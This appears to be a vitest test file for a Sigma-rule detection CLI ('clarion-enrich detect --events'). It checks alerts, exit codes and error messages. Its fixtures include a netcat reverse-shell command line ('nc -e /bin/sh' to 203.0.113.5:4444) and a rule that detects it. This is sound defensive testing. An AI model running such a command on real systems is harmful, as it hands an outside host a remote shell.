// `clarion-enrich detect --events` through the built CLI: all 306 evaluator vectors in one run (each
// case's rule a file, its event a line), exit codes, and the errors a user sees.
import { mkdtemp, mkdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ALERT_COLUMNS } from '../src/detection/alerts.js';
import { assertBuilt, runCli } from './support/run-cli.js';
import { readVectors } from './support/vectors.js';

const cases = readVectors();
let dir: string;

beforeAll(async () => {
  assertBuilt();
  dir = await mkdtemp(path.join(tmpdir(), 'clarion-detect-'));
});
afterAll(() => rm(dir, { recursive: true, force: true }));

function readCsv(text: string): Record<string, string>[] {
  return parse(text, { columns: true }) as Record<string, string>[];
}

const ruleName = (i: number) => `case-${String(i).padStart(3, '0')}.yml`;

describe('the evaluator vectors through detect --events', () => {
  it('each case: its rule fires on its own event exactly when expected; rules that must not load are reported invalid', async () => {
    const rules = path.join(dir, 'vector-rules');
    await mkdir(rules);
    await Promise.all(cases.map((c, i) => writeFile(path.join(rules, ruleName(i)), c.rule)));
    // A case's raw log line (`message`) becomes a field: keyword searches look at every field value,
    // and those cases' events have no other field.
    const lines = cases.map((c) => JSON.stringify(c.message === undefined ? c.event : { ...c.event, message: c.message }));
    const events = path.join(dir, 'vectors.ndjson');
    await writeFile(events, `${lines.join('\n')}\n`);
    const out = path.join(dir, 'vector-out');
    const r = await runCli(['detect', '--events', events, '--rules', rules, '-o', out, '--skip-invalid-rules', '--json'], {}, 60_000);
    expect(r.stderr).toContain('invalid Sigma rule skipped');
    expect(r.code).toBe(0);
    const summary = JSON.parse(r.stdout) as { rules: { loaded: number; applied: number; invalid: { file: string }[] }; inputs: { events: number }[] };
    const errorCases = cases.flatMap((c, i) => (c.error ? [ruleName(i)] : []));
    expect(summary.rules.invalid.map((x) => path.basename(x.file)).sort()).toEqual(errorCases);
    expect(summary.rules.loaded).toBe(cases.length - errorCases.length);
    expect(summary.rules.applied).toBe(summary.rules.loaded);
    expect(summary.inputs[0]!.events).toBe(cases.length);

    const text = await readFile(path.join(out, 'alerts.csv'), 'utf8');
    expect(text.split('\n', 1)[0]).toBe([...ALERT_COLUMNS, 'event'].join(','));
    const fired = new Set(readCsv(text).map((a) => `${path.basename(a.rule_file!)}@${a.event}`));
    const wrong = cases.filter((c, i) => !c.error && fired.has(`${ruleName(i)}@${i + 1}`) !== c.match).map((c) => `${c.name} (expected ${c.match})`);
    expect(wrong).toEqual([]);
  });
});

describe('detect --events, the command', () => {
  let events: string;
  let rules: string;
  beforeAll(async () => {
    rules = path.join(dir, 'rules');
    await mkdir(rules);
    const rule = (title: string, level: string, detection: string) => `title: ${title}\nid: ${title}\nlevel: ${level}\nlogsource:\n  product: linux\n  category: process_creation\ndetection:\n${detection}`;
    await writeFile(path.join(rules, 'nc.yml'), rule('netcat', 'high', "  sel:\n    Image|endswith: '/nc'\n    CommandLine|contains: ' -e '\n  condition: sel\n"));
    await writeFile(path.join(rules, 'cat.yml'), rule('cat', 'low', "  sel:\n    CommandLine|contains: '/proc/1/cgroup'\n  condition: sel\n"));
    events = path.join(dir, 'events.ndjson');
    await writeFile(
      events,
      [
        JSON.stringify({ Image: '/usr/bin/nc', CommandLine: 'nc -e /bin/sh 203.0.113.5 4444', ProcessId: 4711 }),
        '',
        JSON.stringify({ Image: '/bin/cat', CommandLine: 'cat /proc/1/cgroup', ProcessId: 4712, _svc: 'adservice', _attribution: 'port' }),
        JSON.stringify({ Image: '/bin/ls', CommandLine: 'ls' }),
      ].join('\n'),
    );
  });

  it('writes alerts.csv (event = line number) and alerts_svc_to_rules.csv; alerts alone exit 0', async () => {
    const out = path.join(dir, 'out1');
    const r = await runCli(['detect', '--events', events, '--rules', rules, '-o', out], {});
    expect(r.code).toBe(0);
    expect(r.stderr).toMatch(/alerts\s+2: low 1, high 1/);
    const alerts = readCsv(await readFile(path.join(out, 'alerts.csv'), 'utf8'));
    expect(alerts.map((a) => [a.rule_id, a.event, a.pid, a.svc, a.matched])).toEqual([
      ['netcat', '1', '4711', '', "Image=/usr/bin/nc;CommandLine=nc -e /bin/sh 203.0.113.5 4444"],
      ['cat', '3', '4712', 'adservice', 'CommandLine=cat /proc/1/cgroup'],
    ]);
    expect(await readFile(path.join(out, 'alerts_svc_to_rules.csv'), 'utf8')).toBe("svc,alerts,process_ids\nadservice,['cat.yml'],[4712]\n,['nc.yml'],[4711]\n");
  });

  it('--fail-on: exit 5 at or above the level, 0 below it', async () => {
    const high = await runCli(['detect', '--events', events, '--rules', rules, '-o', path.join(dir, 'out2'), '--fail-on', 'high'], {});
    expect(high.code).toBe(5);
    expect(high.stderr).toContain('--fail-on high: reached (exit 5)');
    const critical = await runCli(['detect', '--events', events, '--rules', rules, '-o', path.join(dir, 'out3'), '--fail-on', 'critical', '--json'], {});
    expect(critical.code).toBe(0);
    expect(JSON.parse(critical.stdout).failOn).toEqual({ level: 'critical', reached: false });
  });

  it('errors: a malformed line names file:line (exit 3); an invalid rule stops the run (exit 3); usage (exit 2)', async () => {
    const bad = path.join(dir, 'bad.ndjson');
    await writeFile(bad, '{"Image": "/bin/sh"}\n{"Image": \n');
    const malformed = await runCli(['detect', '--events', bad, '--rules', rules, '-o', path.join(dir, 'out4')], {});
    expect(malformed.code).toBe(3);
    expect(malformed.stderr).toContain(`${bad}:2: not valid JSON`);

    const badRules = path.join(dir, 'bad-rules');
    await mkdir(badRules);
    await writeFile(path.join(badRules, 'x.yml'), 'title: x\nlogsource: {}\ndetection:\n  sel:\n    Image|startwith: /tmp/\n  condition: sel\n');
    const invalid = await runCli(['detect', '--events', events, '--rules', badRules, '-o', path.join(dir, 'out5')], {});
    expect(invalid.code).toBe(3);
    expect(invalid.stderr).toContain(`${path.join(badRules, 'x.yml')}:5: invalid Sigma rule: detection sel: Image|startwith: unknown modifier "startwith"`);

    const both = await runCli(['detect', 'prov.json', '--events', events, '--rules', rules], {});
    expect(both.code).toBe(2);
    expect(both.stderr).toContain('give either captures or --events, not both');
    const level = await runCli(['detect', '--events', events, '--rules', rules, '--fail-on', 'severe'], {});
    expect(level.code).toBe(2);
    expect(level.stderr).toContain('--fail-on "severe": expected one of informational, low, medium, high, critical');
  });
});
